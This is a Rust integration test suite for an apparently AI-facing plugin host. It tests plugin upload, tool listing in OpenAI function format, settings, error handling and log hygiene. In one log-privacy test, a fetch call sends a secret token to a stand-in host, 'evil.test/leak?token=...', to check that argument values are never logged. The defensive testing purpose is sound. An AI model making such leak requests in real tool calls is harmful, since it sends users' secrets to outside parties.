//! The admin and chat-backend API, with the weather example and the probe plugin.

use anyhow::{Context, Result};
use reqwest::Method;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::harness::{
    GREETING, Keyhole, ReplyExt, current_weather, guests, install_probe, install_weather,
    upload_probe,
};

#[tokio::test]
async fn health_check_answers_ok_without_credentials() -> Result<()> {
    let keyhole = Keyhole::start().await?;

    let health = keyhole
        .request(Method::GET, "/healthz")
        .reply()
        .await?
        .expect(200)?;

    assert_eq!(health, json!({ "status": "ok" }));
    Ok(())
}

#[tokio::test]
async fn uploading_a_plugin_answers_201_with_its_view() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    let wasm = guests().await?.weather()?;

    let view = keyhole.upload(wasm.clone()).await?.expect(201)?;

    assert_eq!(view["id"], "weather");
    assert_eq!(view["name"], "Weather");
    assert_eq!(view["version"], "0.1.0");
    assert_eq!(view["description"], "Current weather from Open-Meteo.");
    assert_eq!(
        view["hosts"],
        json!(["api.open-meteo.com", "geocoding-api.open-meteo.com"])
    );
    assert_eq!(view["sha256"], hex::encode(Sha256::digest(&wasm)));
    let installed_at = view["installed_at"]
        .as_str()
        .context("installed_at is a string")?;
    assert!(
        is_rfc3339_like(installed_at),
        "installed_at is {installed_at}"
    );

    let tools = view["tools"].as_array().context("tools is a list")?;
    assert_eq!(tools.len(), 1, "{view}");
    assert_eq!(tools[0]["name"], "current_weather");
    assert!(tools[0]["description"].is_string(), "{view}");
    assert_eq!(
        tools[0]["parameters"]["properties"]["city"]["type"],
        "string"
    );
    assert_eq!(tools[0]["parameters"]["required"], json!(["city"]));

    let settings = view["settings"].as_array().context("settings is a list")?;
    assert_eq!(settings.len(), 1, "{view}");
    assert_eq!(settings[0]["name"], "units");
    assert_eq!(settings[0]["required"], false);
    assert_eq!(settings[0]["value"], Value::Null);
    assert!(settings[0]["description"].is_string(), "{view}");

    let fetched = keyhole
        .admin_get("/admin/plugins/weather")
        .await?
        .expect(200)?;
    assert_eq!(fetched, view);
    Ok(())
}

/// `2026-12-03T19:25:00Z` and the like; the tests carry no date library.
fn is_rfc3339_like(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.len() >= 20
        && bytes[4] == b'-'
        && bytes[7] == b'-'
        && bytes[10] == b'T'
        && bytes[13] == b':'
        && (text.ends_with('Z') || text[19..].contains(['+', '-']))
}

#[tokio::test]
async fn plugin_list_is_sorted_by_id() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    install_probe(&keyhole).await?;

    let list = keyhole.admin_get("/admin/plugins").await?.expect(200)?;

    let ids: Vec<&str> = list["plugins"]
        .as_array()
        .context("plugins is a list")?
        .iter()
        .filter_map(|plugin| plugin["id"].as_str())
        .collect();
    assert_eq!(ids, ["probe", "weather"]);
    Ok(())
}

#[tokio::test]
async fn uploading_an_installed_plugin_again_replaces_it() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;

    let view = keyhole
        .upload(guests().await?.weather()?)
        .await?
        .expect(200)?;

    assert_eq!(view["id"], "weather");
    let list = keyhole.admin_get("/admin/plugins").await?.expect(200)?;
    assert_eq!(list["plugins"].as_array().map(Vec::len), Some(1), "{list}");
    Ok(())
}

#[tokio::test]
async fn deleted_plugin_is_unknown_everywhere() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    keyhole
        .admin_delete("/admin/plugins/weather")
        .await?
        .expect(204)?;

    let get = keyhole.admin_get("/admin/plugins/weather").await?;
    get.expect_error(404, "not_found")?;
    let invoke = current_weather(&keyhole, &key, "Berlin").await?;
    invoke.expect_error(404, "not_found")?;
    let tools = keyhole.api_get(&key, "/v1/tools").await?.expect(200)?;
    assert_eq!(tools["tools"], json!([]));
    let again = keyhole.admin_delete("/admin/plugins/weather").await?;
    again.expect_error(404, "not_found")?;
    Ok(())
}

#[tokio::test]
async fn tools_are_listed_in_openai_function_format() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    install_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let listed = keyhole.api_get(&key, "/v1/tools").await?.expect(200)?;

    let tools = listed["tools"].as_array().context("tools is a list")?;
    let mut names: Vec<&str> = tools
        .iter()
        .filter_map(|tool| tool["function"]["name"].as_str())
        .collect();
    names.sort_unstable();
    assert_eq!(
        names,
        [
            "probe__echo",
            "probe__fail",
            "probe__fetch",
            "probe__keyed",
            "probe__log",
            "probe__scratch",
            "probe__trap",
            "weather__current_weather"
        ]
    );
    let weather = tools
        .iter()
        .find(|tool| tool["function"]["name"] == "weather__current_weather")
        .context("the weather tool is listed")?;
    assert_eq!(weather["type"], "function");
    assert_eq!(
        weather["function"]["description"],
        "Current temperature, wind and weather code for a city."
    );
    assert_eq!(
        weather["function"]["parameters"]["properties"]["city"]["type"],
        "string"
    );
    Ok(())
}

#[tokio::test]
async fn weather_reports_current_conditions_fetched_over_tls() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = current_weather(&keyhole, &key, "Berlin").await?;
    let output = reply.expect(200)?["output"].take();

    assert_eq!(output["place"], "Berlin");
    assert_eq!(output["country"], "Germany");
    assert_eq!(output["current"]["temperature_2m"], 3.4);
    assert_eq!(output["current"]["weather_code"], 3);
    assert_eq!(output["units"]["temperature_2m"], "°C");

    // The upstream speaks nothing but TLS, with a certificate from the CA given to
    // `--egress-ca`: a request it recorded went through a verified TLS connection.
    let upstream = keyhole.upstream();
    let search = upstream.request_to("/v1/search")?;
    assert_eq!(search.method, "GET");
    assert_eq!(search.query("name").as_deref(), Some("Berlin"));
    let forecast = upstream.request_to("/v1/forecast")?;
    assert_eq!(forecast.query("latitude").as_deref(), Some("52.52437"));
    assert_eq!(forecast.query("longitude").as_deref(), Some("13.41053"));
    assert_eq!(
        forecast.query("temperature_unit").as_deref(),
        Some("celsius")
    );
    Ok(())
}

#[tokio::test]
async fn plugin_setting_changes_what_the_weather_tool_asks_for() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    keyhole
        .configure("weather", json!({"units": "imperial"}))
        .await?
        .expect(200)?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = current_weather(&keyhole, &key, "Berlin").await?;
    reply.expect(200)?;

    let forecast = keyhole.upstream().request_to("/v1/forecast")?;
    assert_eq!(
        forecast.query("temperature_unit").as_deref(),
        Some("fahrenheit")
    );
    assert_eq!(forecast.query("wind_speed_unit").as_deref(), Some("mph"));
    Ok(())
}

#[tokio::test]
async fn unknown_city_is_a_tool_error_the_model_can_act_on() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = current_weather(&keyhole, &key, "Nowhere").await?;
    let error = reply.expect_error(422, "tool_error")?;

    assert_eq!(error["kind"], "invalid_arguments");
    let message = error["message"].as_str().unwrap_or_default();
    assert!(message.contains("Nowhere"), "{error}");
    Ok(())
}

#[tokio::test]
async fn tool_call_answers_with_the_output_as_json_content() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = keyhole
        .tool_call(&key, "weather__current_weather", r#"{"city":"Berlin"}"#)
        .await?;

    let body = reply.expect(200)?;
    assert_eq!(reply.header("x-keyhole-outcome"), Some("ok"), "{reply}");
    assert_eq!(body["role"], "tool");
    assert_eq!(body["tool_call_id"], "call_1");
    let content = body["content"].as_str().context("content is a string")?;
    let output: Value = serde_json::from_str(content).context("content is JSON")?;
    assert_eq!(output["place"], "Berlin");
    assert_eq!(output["current"]["temperature_2m"], 3.4);
    Ok(())
}

#[tokio::test]
async fn tool_call_to_an_unknown_tool_answers_an_error_text_for_the_model() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_weather(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = keyhole
        .tool_call(&key, "weather__no_such_tool", "{}")
        .await?;

    let body = reply.expect(200)?;
    let outcome = reply
        .header("x-keyhole-outcome")
        .context("x-keyhole-outcome is set")?;
    assert_ne!(outcome, "ok", "{reply}");
    assert_eq!(body["role"], "tool");
    assert_eq!(body["tool_call_id"], "call_1");
    let content = body["content"].as_str().context("content is a string")?;
    assert!(!content.trim().is_empty(), "{reply}");
    Ok(())
}

#[tokio::test]
async fn tool_call_that_fails_tells_the_model_why() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = keyhole
        .tool_call(&key, "probe__fail", r#"{"kind":"upstream"}"#)
        .await?;

    let body = reply.expect(200)?;
    assert_eq!(
        reply.header("x-keyhole-outcome"),
        Some("tool_error"),
        "{reply}"
    );
    let content = body["content"].as_str().context("content is a string")?;
    assert!(content.contains("probe failure"), "{reply}");
    Ok(())
}

#[tokio::test]
async fn tool_error_answers_422_with_its_kind_and_message() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    for kind in ["invalid_arguments", "upstream", "other"] {
        let reply = keyhole
            .invoke(&key, "probe", "fail", json!({ "kind": kind }))
            .await?;
        let error = reply.expect_error(422, "tool_error")?;

        assert_eq!(error["kind"], kind, "{reply}");
        let message = error["message"].as_str().unwrap_or_default();
        assert!(message.contains("probe failure"), "{reply}");
    }
    Ok(())
}

#[tokio::test]
async fn trapping_plugin_answers_500_and_the_next_call_still_works() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let trapped = keyhole.invoke(&key, "probe", "trap", json!({})).await?;
    trapped.expect_error(500, "plugin_failed")?;

    let echoed = keyhole
        .invoke(&key, "probe", "echo", json!({"text": "still here"}))
        .await?;
    assert_eq!(echoed.expect(200)?["output"]["text"], "still here");
    Ok(())
}

#[tokio::test]
async fn unknown_setting_is_rejected() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    upload_probe(&keyhole).await?;

    let reply = keyhole
        .configure("probe", json!({"greeting": "hi", "colour": "red"}))
        .await?;

    reply.expect_error(400, "unknown_setting")?;
    Ok(())
}

#[tokio::test]
async fn plugin_with_an_unset_required_setting_refuses_calls() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    upload_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = keyhole
        .invoke(&key, "probe", "echo", json!({"text": "hi"}))
        .await?;

    let error = reply.expect_error(409, "plugin_not_configured")?;
    assert_eq!(error["missing"], json!(["greeting"]));
    Ok(())
}

#[tokio::test]
async fn plugin_reads_the_settings_the_admin_set() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    upload_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let view = keyhole
        .configure("probe", json!({"greeting": "hi", "mood": "calm"}))
        .await?;
    let view = view.expect(200)?;
    assert_eq!(setting_value(&view, "greeting"), json!("hi"));
    assert_eq!(setting_value(&view, "mood"), json!("calm"));
    let echoed = keyhole
        .invoke(&key, "probe", "echo", json!({"text": "x"}))
        .await?
        .expect(200)?;
    assert_eq!(
        echoed["output"],
        json!({"text": "x", "greeting": "hi", "mood": "calm"})
    );

    // A PUT changes the settings it names: null unsets the mood, the greeting is kept.
    let view = keyhole
        .configure("probe", json!({"greeting": GREETING, "mood": null}))
        .await?
        .expect(200)?;
    assert_eq!(setting_value(&view, "mood"), Value::Null);
    let view = keyhole.configure("probe", json!({})).await?.expect(200)?;
    assert_eq!(setting_value(&view, "greeting"), json!(GREETING));
    let echoed = keyhole
        .invoke(&key, "probe", "echo", json!({"text": "x"}))
        .await?
        .expect(200)?;
    assert_eq!(
        echoed["output"],
        json!({"text": "x", "greeting": GREETING, "mood": null})
    );
    Ok(())
}

fn setting_value(view: &Value, name: &str) -> Value {
    view["settings"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|setting| setting["name"] == name)
        .map(|setting| setting["value"].clone())
        .unwrap_or_else(|| panic!("the view lists no setting `{name}`: {view}"))
}

#[tokio::test]
async fn plugin_log_messages_reach_the_server_log() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = keyhole
        .invoke(&key, "probe", "log", json!({"message": "probe-says-7f3a"}))
        .await?;

    assert_eq!(reply.expect(200)?["output"], json!({}));
    keyhole.logs().wait_for("probe-says-7f3a").await?;
    Ok(())
}

#[tokio::test]
async fn argument_values_never_reach_the_server_log() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    install_probe(&keyhole).await?;
    let key = keyhole.create_api_key("acme").await?;
    let secret = "private-value-0c9e41";

    // The value passes through a successful call, a rejected one, a tool call and a refused
    // request, each of which the server may log.
    keyhole
        .invoke(&key, "probe", "echo", json!({"text": secret}))
        .await?
        .expect(200)?;
    let rejected = keyhole
        .invoke(&key, "probe", "echo", json!({"text": [secret]}))
        .await?;
    rejected.expect_error(400, "invalid_arguments")?;
    let arguments = json!({"text": secret}).to_string();
    keyhole
        .tool_call(&key, "probe__echo", &arguments)
        .await?
        .expect(200)?;
    let url = format!("https://evil.test/leak?token={secret}");
    keyhole
        .invoke(&key, "probe", "fetch", json!({"url": url}))
        .await?
        .expect(200)?;

    // The log is read asynchronously: a marker logged after the calls proves it is complete.
    keyhole
        .invoke(&key, "probe", "log", json!({"message": "marker-5b2d"}))
        .await?
        .expect(200)?;
    keyhole.logs().wait_for("marker-5b2d").await?;
    let logs = keyhole.logs().text();
    assert!(
        !logs.contains(secret),
        "an argument value was logged:\n{logs}"
    );
    Ok(())
}

#[tokio::test]
async fn hacker_news_lists_the_top_stories() -> Result<()> {
    let keyhole = Keyhole::start().await?;
    keyhole
        .upload(guests().await?.hacker_news()?)
        .await?
        .expect(201)?;
    let key = keyhole.create_api_key("acme").await?;

    let reply = keyhole
        .invoke(&key, "hacker-news", "top_stories", json!({"count": 1}))
        .await?;
    let output = reply.expect(200)?["output"].take();

    assert_eq!(output.as_array().map(Vec::len), Some(1), "{output}");
    assert_eq!(output[0]["id"], 8863);
    assert_eq!(output[0]["title"], "Story 8863");
    assert!(keyhole.upstream().request_to("/v0/item/8863.json").is_ok());
    assert!(
        keyhole
            .upstream()
            .request_to("/v0/item/121003.json")
            .is_err()
    );

    let too_many = keyhole
        .invoke(&key, "hacker-news", "top_stories", json!({"count": 50}))
        .await?;
    too_many.expect_error(400, "invalid_arguments")?;
    Ok(())
}
